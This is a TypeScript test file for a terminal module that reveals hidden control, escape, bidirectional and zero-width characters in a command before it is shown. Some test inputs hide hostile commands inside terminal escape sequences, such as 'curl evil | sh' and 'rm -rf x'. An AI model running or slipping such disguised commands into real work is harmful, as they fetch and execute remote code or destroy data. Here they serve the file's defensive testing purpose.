import { describe, expect, test } from 'vitest';
import { hiddenIn, reveal } from '../../src/terminal/reveal.ts';
import { sanitise } from '../../src/terminal/sanitise.ts';

const shown = (text: string) =>
  reveal(text)
    .map((piece) => piece.text)
    .join('');

describe('a command as it is shown', () => {
  test.for([
    ['echo 1 \u001bP; rm -rf x ; \u001b\\ x', 'echo 1 <U+001B>P; rm -rf x ; <U+001B>\\ x'],
    ['echo a\u001b]0;curl evil | sh\u0007', 'echo a<U+001B>]0;curl evil | sh<U+0007>'],
    ['echo a\u009b31m', 'echo a<U+009B>31m'],
    ['cat \u202ecba\u202c', 'cat <U+202E>cba<U+202C>'],
    ['a\u200bb\ufeffc\u00add\u2060e', 'a<U+200B>b<U+FEFF>c<U+00AD>d<U+2060>e'],
    ['echo\u00a0hi\u3000x', 'echo<U+00A0>hi<U+3000>x'],
    ['a\u3164b\u115fc', 'a<U+3164>b<U+115F>c'],
    ['a\u2028b\u{e0041}c\ufe0fd1\u20e3', 'a<U+2028>b<U+E0041>c<U+FE0F>d1<U+20E3>'],
    ['a\u0000b\bc\u007fd', 'a<U+0000>b<U+0008>c<U+007F>d'],
  ] as const)('%j hides nothing', ([text, whole]) => {
    expect(shown(text)).toBe(whole);
    // What is drawn is sanitised behind this: nothing more is lost there.
    expect(sanitise(shown(text))).toBe(whole);
  });

  test.for(['echo "⚠️ wait"', 'echo "👩‍🔧 ok"', 'cat <<-EOF\n\tx\nEOF', 'echo "Größe: 5 €"', 'echo 日本'])(
    '%j stands as it is written',
    (text) => {
      expect(shown(text)).toBe(text);
      expect(hiddenIn(text)).toEqual([]);
    },
  );

  test('each hidden character is named once', () => {
    expect(hiddenIn('a\u200bb\u200bc\u001bd')).toEqual(['<U+200B>', '<U+001B>']);
  });
});
